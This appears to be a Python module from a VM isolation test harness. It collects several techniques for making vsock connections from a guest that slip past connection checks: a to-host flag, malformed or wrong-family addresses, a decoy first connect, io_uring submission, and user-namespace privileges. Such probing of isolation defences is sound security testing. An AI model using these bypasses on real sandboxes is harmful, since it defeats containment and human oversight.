"""Connects that Python's socket module cannot make, through libc: other shapes of struct sockaddr_vm, other calls.

Runs inside guests, beside attacker.py. Each way is a function (socket, CID, port) -> errno, 0 when connected.
"""

import ctypes
import errno
import mmap
import os
import socket
import struct
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
AF_VSOCK = 40
# <linux/vm_sockets.h>: svm_flags bit that sends a packet to the host even where a nested guest has the CID.
FLAG_TO_HOST = 1
# struct sockaddr_storage: the longest address the kernel takes.
LONGEST_ADDRESS = 128
CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS = 0x10000000, 0x40000000, 0x00020000

# x86-64 system calls and <linux/io_uring.h>.
NR_IO_URING_SETUP, NR_IO_URING_ENTER = 425, 426
IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000


def pack_address(cid: int, port: int, flags: int = 0) -> bytes:
    """struct sockaddr_vm: family, reserved, port, CID, flags, zeros up to the size of struct sockaddr."""
    return struct.pack("=HHIIB3x", AF_VSOCK, 0, port, cid, flags)


def call_connect(connection: socket.socket, address: bytes) -> int:
    if LIBC.connect(connection.fileno(), address, len(address)) == 0:
        return 0
    return ctypes.get_errno()


def connect_with_flag(connection: socket.socket, cid: int, port: int) -> int:
    return call_connect(connection, pack_address(cid, port, FLAG_TO_HOST))


def connect_with_long_address(connection: socket.socket, cid: int, port: int) -> int:
    return call_connect(connection, pack_address(cid, port).ljust(LONGEST_ADDRESS, b"\0"))


def connect_with_other_family(connection: socket.socket, cid: int, port: int) -> int:
    """AF_UNSPEC in the address, for a check that looks at the family of the address alone."""
    return call_connect(connection, b"\0\0" + pack_address(cid, port)[2:])


def connect_twice(connection: socket.socket, cid: int, port: int) -> int:
    """The host first, where nobody listens, then the real aim: a check of the first connect alone would miss it."""
    connection.setblocking(True)
    call_connect(connection, pack_address(2, 4))
    connection.setblocking(False)
    return call_connect(connection, pack_address(cid, port))


def connect_from_local(connection: socket.socket, cid: int, port: int) -> int:
    """From VMADDR_CID_LOCAL instead of the guest's own CID."""
    connection.bind((1, 0xFFFFFFFF))
    return call_connect(connection, pack_address(cid, port))


def connect_by_io_uring(connection: socket.socket, cid: int, port: int) -> int:
    params = ctypes.create_string_buffer(120)
    ring = LIBC.syscall(NR_IO_URING_SETUP, 2, params)
    if ring < 0:
        return ctypes.get_errno()
    try:
        return _submit_connect(ring, params.raw, connection, pack_address(cid, port))
    finally:
        os.close(ring)


def _submit_connect(ring: int, params: bytes, connection: socket.socket, address: bytes) -> int:
    """One request through the ring, and the result it left there."""
    sq_entries, cq_entries = struct.unpack_from("II", params)
    _, sq_tail, _, _, _, _, sq_array = struct.unpack_from("7I", params, 40)
    cqes = struct.unpack_from("6I", params, 80)[5]
    rings = mmap.mmap(ring, max(sq_array + 4 * sq_entries, cqes + 16 * cq_entries))
    entries = mmap.mmap(ring, 64 * sq_entries, offset=IORING_OFF_SQES)
    buffer = ctypes.create_string_buffer(address, len(address))
    connection.setblocking(True)
    request = struct.pack(
        "=BBHiQQ", IORING_OP_CONNECT, 0, 0, connection.fileno(), len(address), ctypes.addressof(buffer)
    )
    entries[: len(request)] = request
    struct.pack_into("I", rings, sq_array, 0)
    struct.pack_into("I", rings, sq_tail, 1)
    if LIBC.syscall(NR_IO_URING_ENTER, ring, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0:
        return ctypes.get_errno()
    connection.setblocking(False)
    number: int = -struct.unpack_from("i", rings, cqes + 8)[0]
    # The ring asks again when the socket wakes it, and may find it still connecting: the end is yet to come.
    return errno.EINPROGRESS if number == errno.EALREADY else number


def enter_namespaces() -> None:
    """Root, in namespaces of one's own: every capability, of no weight outside."""
    uid, gid = os.getuid(), os.getgid()
    if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


WAYS: dict[str, Callable[[socket.socket, int, int], int]] = {
    "flag-to-host": connect_with_flag,
    "long-address": connect_with_long_address,
    "other-family": connect_with_other_family,
    "second-connect": connect_twice,
    "from-local": connect_from_local,
    "io-uring": connect_by_io_uring,
}
